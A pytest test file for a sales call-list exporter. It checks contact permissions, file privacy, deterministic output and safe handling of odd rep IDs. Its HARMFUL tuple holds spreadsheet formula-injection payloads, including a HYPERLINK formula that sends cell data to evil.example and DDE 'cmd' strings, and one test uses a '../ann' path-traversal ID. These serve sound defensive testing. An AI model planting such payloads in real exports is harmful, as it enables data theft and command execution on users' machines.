"""Call lists, read back: who is in them and when, harmless in a spreadsheet, and private."""

import csv
import stat
import zipfile
from datetime import date, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import duckdb
import holidays
import openpyxl
import pytest
from typer.testing import CliRunner

from scripts.commands import app
from scripts.run import RunResult
from scripts.sales.call_list import COLUMNS, call_lists
from scripts.shared.errors import UserError
from tests.python.conftest import Warehouse
from tests.scored import republish, write_scored

# Eight leads that the queue would call on Monday: 1 to 4 and 8 ann's, 5 hs:77's, 6 and 7 nobody's.
QUEUE = """
create schema raw;
create table raw.reps as select * from (values
    ('hs:77', 'Old Name', 1), ('hs:77', 'Bea Berg', 2)
) as reps (rep_id, name, landing_seq);
alter table intermediate.int_lead_profiles add column first_name varchar;
alter table intermediate.int_lead_profiles add column last_name varchar;
alter table intermediate.int_lead_profiles add column company_name varchar;
alter table intermediate.int_lead_profiles add column phone varchar;
alter table intermediate.int_lead_profiles add column email varchar;
update intermediate.int_lead_profiles set first_name = 'Ada', last_name = 'of ' || lead_id,
    company_name = 'Acme', phone = '+49 30 1234', email = lead_id || '@x.io', owner_id = 'hs:77';
insert into intermediate.int_kpi_events values
    ('lead-1', 'contact', '2025-06-20 10:00'), ('lead-1', 'email_sent', '2025-06-21 10:00'),
    ('lead-1', 'email_opened', '2025-06-22 10:00');
create table marts.lead_contact_permission as
select lead_id, channel as contact_channel, true as may_contact from marts.lead_score
cross join (values ('phone'), ('email')) as channels (channel);
create table marts.nurture_queue as
select 'lead-' || number as lead_id,
    ['ann', 'ann', 'ann', 'ann', 'hs:77', null, null, 'ann'][number] as rep_id,
    'Call today' as action, 'phone' as channel, 'Asked for a demo' as reason,
    date '2025-07-01' as queue_date, timestamp '2025-07-01 07:00' as contact_from_at,
    timestamp '2025-07-01 15:00' as contact_until_at, 'Europe/Berlin' as lead_time_zone,
    9 - number as work_rank, number = 2 as is_held_out
from range(1, 9) as numbers (number)
"""


@pytest.fixture
def queue(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    file = write_scored(tmp_path / "w", 9)
    republish(file, QUEUE)
    monkeypatch.setenv("LEADS_WAREHOUSE", str(file))
    return file


def change(file: Path, sql: str) -> None:
    with duckdb.connect(str(file)) as connection:
        connection.execute(sql)


def read_xlsx(file: Path) -> list[dict[str, str]]:
    """The rows of a list; all cells must be text, and none a formula or a link."""
    book = openpyxl.load_workbook(file)
    (sheet,) = book.worksheets
    header, *rows = [*sheet.iter_rows()]
    assert [cell.value for cell in header] == [*COLUMNS]
    for row in rows:
        assert {cell.data_type for cell in row if cell.value is not None} == {"s"}
        assert not any(cell.hyperlink for cell in row)
    return [
        {name: str(cell.value or "") for name, cell in zip(COLUMNS, row, strict=True)}
        for row in rows
    ]


def read_csv(file: Path) -> list[dict[str, str]]:
    with file.open(encoding="utf-8-sig", newline="") as stream:
        return [*csv.DictReader(stream)]


def lists(file: Path) -> dict[str, list[dict[str, str]]]:
    """The lists by rep, as their file names have it; both files of a rep say the same."""
    folder = file.parent / "call_lists"
    found = {}
    for xlsx in sorted(folder.glob("*.xlsx")):
        rows = read_xlsx(xlsx)
        plain = read_csv(xlsx.with_suffix(".csv"))
        assert [{k: v.removeprefix("'") for k, v in row.items()} for row in plain] == rows
        found[xlsx.name.removeprefix("calls.2025-06-30.").removesuffix(".xlsx")] = rows
    assert len([*folder.iterdir()]) == 2 * len(found)
    return found


def named(rows: list[dict[str, str]]) -> list[str]:
    return [row["lead_id"] for row in rows]


def test_each_rep_has_a_list_in_the_order_of_work(queue: Path) -> None:
    result = call_lists()
    assert result.leads == {"ann": 5, "hs:77": 1, "nobody": 2}
    ann, bea, nobody = lists(queue).values()
    assert named(ann) == ["lead-8", "lead-4", "lead-3", "lead-2", "lead-1"]
    assert (named(bea), named(nobody)) == (["lead-5"], ["lead-7", "lead-6"])
    assert ann[-1] == {
        "place": "5",
        "lead_id": "lead-1",
        "name": "Ada of lead-1",
        "company": "Acme",
        "phone": "+49 30 1234",
        "email": "lead-1@x.io",
        "owner": "Bea Berg",
        "next_step": "Call today",
        "because": "Asked for a demo",
        "score": "1",
        "band": "cold",
        "reasons": "reason 1",
        "last_touch": "2025-06-21",
        "call_on": "2025-07-01",
        "local_time": "09:00–17:00",  # 7:00 to 15:00 UTC in July
        "time_zone": "Europe/Berlin",
        "our_time": "07:00–15:00",
        "lead_url": "https://crm.example.com/1",
        "disposition": "",
        "reason": "",
    }
    # An experiment holds lead 2 out: nobody is to see how it scores.
    assert [ann[3][column] for column in ("score", "band", "reasons")] == ["", "", ""]


def test_only_who_may_be_called_now_and_has_a_phone_is_in_a_list(queue: Path) -> None:
    """What came after the publication counts: lead 4 alone is left to ann."""
    change(
        queue,
        """update marts.lead_contact_permission set may_contact = false
        where lead_id = 'lead-1' and contact_channel = 'phone';
        update marts.lead_score set is_callable = false where lead_id = 'lead-2';
        update intermediate.int_lead_profiles set has_objected = true where lead_id = 'lead-3';
        update marts.lead_contact_permission set may_contact = false
        where lead_id = 'lead-4' and contact_channel = 'email';
        update intermediate.int_lead_profiles set phone = null where lead_id = 'lead-8'""",
    )
    call_lists()
    assert [named(rows) for rows in lists(queue).values()] == [
        ["lead-4"],
        ["lead-5"],
        ["lead-7", "lead-6"],
    ]
    republish(queue, "update marts.nurture_queue set channel = 'email' where lead_id <> 'lead-5'")
    call_lists()
    assert [named(rows) for rows in lists(queue).values()] == [["lead-5"]]


def test_a_list_of_before_is_gone_and_one_rep_s_made_anew_alone(queue: Path) -> None:
    call_lists()
    folder = queue.parent / "call_lists"
    old = folder / "calls.2025-06-29.hs-77.csv"
    old.write_text("a list of yesterday")
    change(queue, "update intermediate.int_lead_profiles set company_name = 'Other'")
    call_lists("ann")
    told = {name: {row["company"] for row in rows} for name, rows in lists_of(folder).items()}
    assert told["ann"] == {"Other"} and told["nobody"] == {"Acme"}
    call_lists()
    assert not old.exists()
    with pytest.raises(UserError, match="rep 'cem' has nobody to call"):
        call_lists("cem")


def lists_of(folder: Path) -> dict[str, list[dict[str, str]]]:
    return {file.name.split(".")[2]: read_xlsx(file) for file in folder.glob("*.xlsx")}


def test_lists_are_for_their_owner_alone(queue: Path) -> None:
    call_lists()
    folder = queue.parent / "call_lists"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert {stat.S_IMODE(file.stat().st_mode) for file in folder.iterdir()} == {0o600}


def test_the_same_leads_give_the_same_bytes(queue: Path) -> None:
    folder = queue.parent / "call_lists"
    call_lists()
    first = {file.name: file.read_bytes() for file in folder.iterdir()}
    call_lists()
    assert {file.name: file.read_bytes() for file in folder.iterdir()} == first


HARMFUL = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
)


def test_formulas_in_names_are_harmless(queue: Path) -> None:
    for number, text in enumerate(HARMFUL, start=1):
        change(
            queue,
            f"""update intermediate.int_lead_profiles
            set company_name = $${text}$$, first_name = $${text}$$
            where lead_id = 'lead-{number}'""",
        )
    call_lists()
    rows = {row["lead_id"]: row for found in lists(queue).values() for row in found}
    folder = queue.parent / "call_lists"
    plain = {row["lead_id"]: row for file in folder.glob("*.csv") for row in read_csv(file)}
    for number, text in enumerate(HARMFUL, start=1):
        assert rows[f"lead-{number}"]["company"] == text
        assert plain[f"lead-{number}"]["company"] == f"'{text}"
        assert plain[f"lead-{number}"]["name"].startswith(f"'{text}")
        assert plain[f"lead-{number}"]["phone"] == "+49 30 1234"
    for file in folder.glob("*.xlsx"):
        with zipfile.ZipFile(file) as parts:
            assert b"<f>" not in parts.read("xl/worksheets/sheet1.xml")
        sheet = openpyxl.load_workbook(file).worksheets[0]
        for row in sheet.iter_rows(min_row=2):
            is_formula = str(row[3].value) in HARMFUL
            assert row[3].quotePrefix == is_formula  # so that it stays text when it is edited


def test_an_odd_id_of_a_rep_is_no_path(queue: Path) -> None:
    republish(
        queue,
        """update marts.nurture_queue set rep_id = case rep_id
            when 'ann' then '../ann' when 'hs:77' then 'nobody' end""",
    )
    call_lists()
    found = [*lists(queue)]
    assert len(found) == 3 and "nobody" in found
    assert found[0].startswith("---ann-") and found[1].startswith("nobody-")


def test_the_command_tells_no_more_than_counts(queue: Path) -> None:
    said = CliRunner().invoke(app, ["call-list"]).output
    assert said.splitlines()[-4:] == [
        "ann: 5 to call",
        "hs:77: 1 to call",
        "nobody: 2 to call",
        f"call lists: {queue.parent / 'call_lists'} (3, clock 2025-06-30)",
    ]


def test_everybody_in_the_lists_of_the_sample_may_be_called_then(
    sample: tuple[Warehouse, RunResult],
) -> None:
    """By the landed words and calendars of its own: the hours are those of seeds/sales."""
    with pytest.MonkeyPatch.context() as patch:
        for name, value in sample[0].environment.items():
            patch.setenv(name, value)
        result = call_lists()
    called = [row for file in result.folder.glob("*.csv") for row in read_csv(file)]
    assert len(called) == sum(result.leads.values()) > 0
    countries = {
        lead_id: str(country or "")
        for lead_id, country in sample[0].query(
            "select lead_id, country from intermediate.int_lead_profiles where is_current"
        )
    }
    allowed = {
        lead_id
        for (lead_id,) in sample[0].query(
            """select lead_id from marts.lead_score
            inner join marts.lead_contact_permission using (lead_id)
            where is_callable and contact_channel = 'phone' and may_contact"""
        )
    }
    for row in called:
        assert row["lead_id"] in allowed
        day, country = date.fromisoformat(row["call_on"]), countries[row["lead_id"]]
        assert day > result.clock_date
        assert day.weekday() < 5 or country in ("AE", "IL", "SA", "EG"), row["call_on"]
        assert not country or day not in holidays.country_holidays(country)
        opens = row["our_time"].split("–")[0]
        zone = ZoneInfo(row["time_zone"])
        assert row["local_time"] == ("10:00–18:00" if country == "ES" else "09:00–17:00")
        local = datetime.fromisoformat(f"{day} {row['local_time'][:5]}").replace(tzinfo=zone)
        assert f"{local.astimezone(ZoneInfo('UTC')):%H:%M}" == opens
